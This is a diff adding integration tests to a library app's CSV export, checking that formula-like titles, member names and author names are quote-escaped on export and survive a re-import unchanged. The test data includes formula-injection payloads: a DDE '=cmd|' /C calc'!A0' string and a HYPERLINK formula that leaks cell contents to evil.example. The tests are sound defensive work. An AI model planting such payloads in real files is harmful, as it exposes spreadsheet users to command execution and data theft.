@@ -96,7 +96,23 @@ class CsvExportIT {
         long second = api.author("Same Name Twice");
         api.book(first, TestData.isbn(), 1);
         api.book(second, TestData.isbn(), 2);
+        // values a spreadsheet would run as formulas, and quotes that must survive as they are
+        long formulaAuthor = api.create("/authors", Map.of("name", "=cmd|' /C calc'!A0", "birthYear", -500));
+        Map<String, String> titles = new java.util.LinkedHashMap<>();
+        for (String title : FORMULAS) {
+            String isbn = TestData.isbn();
+            titles.put(isbn, title);
+            api.create("/books", Map.of("isbn", isbn, "title", title, "copies", 1, "authorId", formulaAuthor));
+        }
         String before = export("books").asString();
+
+        Map<String, CSVRecord> exported = byFirstColumn(parse(before));
+        titles.forEach((isbn, title) -> {
+            CSVRecord row = exported.get(isbn);
+            assertThat(row.get("title")).as(title).isEqualTo(title.startsWith("'S") ? title : "'" + title);
+            assertThat(row.get("author")).isEqualTo("'=cmd|' /C calc'!A0");
+            assertThat(row.get("author_birth_year")).isEqualTo("'-500");
+        });
 
         Response imported = CsvImportIT.asLibrarian(api).body(before.getBytes(StandardCharsets.UTF_8)).post("/imports/books");
 
@@ -106,6 +122,44 @@ class CsvExportIT {
         assertThat(export("books").asString()).isEqualTo(before);
         api.request().get("/authors/{id}/books", first).then().body("total", is(1));
         api.request().get("/authors/{id}/books", second).then().body("total", is(1));
+        titles.forEach((isbn, title) -> api.request().get("/books?q={isbn}", isbn).then().body("items[0].title", is(title)));
+        api.request().get("/authors/{id}", formulaAuthor).then().body("name", is("=cmd|' /C calc'!A0"))
+                .body("birthYear", is(-500));
+    }
+
+    @Test
+    void membersAndLoansAreExportedWithoutFormulasAndTheMembersComeBackUnchanged() throws IOException {
+        Map<String, String> names = new java.util.LinkedHashMap<>();
+        for (String name : FORMULAS) {
+            names.put(TestData.memberNumber(), name);
+        }
+        names.forEach((number, name) -> api.create("/members", Map.of("memberNumber", number, "name", name,
+                "email", TestData.email("formula"))));
+        String isbn = TestData.isbn();
+        long book = api.create("/books", Map.of("isbn", isbn, "title", "@SUM(1+1)*cmd|' /C calc'!A0", "copies", 1,
+                "authorId", api.author("Loaned Formula Author")));
+        long reader = api.member(TestData.memberNumber(), "Formula Reader");
+        api.post("/members/" + reader + "/borrows", Map.of("bookId", book)).statusCode(201);
+
+        CSVRecord loan = parse(export("loans").asString()).stream().filter(r -> r.get("isbn").equals(isbn))
+                .findFirst().orElseThrow();
+        assertThat(loan.get("title")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
+
+        String members = export("members").asString();
+        String header = members.substring(0, members.indexOf("\r\n") + 2);
+        String ours = linesOf(members, names.keySet());
+        Map<String, CSVRecord> rows = byFirstColumn(parse(header + ours));
+        assertThat(rows).hasSize(names.size());
+        names.forEach((number, name) -> assertThat(rows.get(number).get("name"))
+                .isEqualTo(name.startsWith("'S") ? name : "'" + name));
+
+        Response imported = CsvImportIT.asLibrarian(api).body((header + ours).getBytes(StandardCharsets.UTF_8))
+                .post("/imports/members");
+
+        imported.then().statusCode(200).body("rejected", is(0)).body("unchanged", is(names.size()));
+        String again = export("members").asString();
+        assertThat(linesOf(again, names.keySet())).isEqualTo(ours);
+        names.forEach((number, name) -> api.request().get("/members?q={n}", number).then().body("items[0].name", is(name)));
     }
 
     @Test
@@ -144,9 +198,20 @@ class CsvExportIT {
         }
     }
 
+    /** Titles and names a spreadsheet would take for formulas, and quotes that are just quotes. */
+    private static final List<String> FORMULAS = List.of(
+            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1", "-5 degrees", "@home",
+            "'=already quoted", "'Salem's Lot");
+
     private Response export(String what) {
         return api.anonymous().auth().preemptive().basic(TestData.ADMIN, TestData.ADMIN_PASSWORD).accept("text/csv")
                 .get("/exports/" + what + ".csv");
+    }
+
+    /** The lines of a CSV text that start with one of the keys, each with its CRLF. */
+    private static String linesOf(String csv, java.util.Set<String> keys) {
+        return csv.lines().filter(line -> line.indexOf(',') > 0 && keys.contains(line.substring(0, line.indexOf(','))))
+                .map(line -> line + "\r\n").collect(Collectors.joining());
     }
 
     private static List<CSVRecord> parse(String csv) throws IOException {
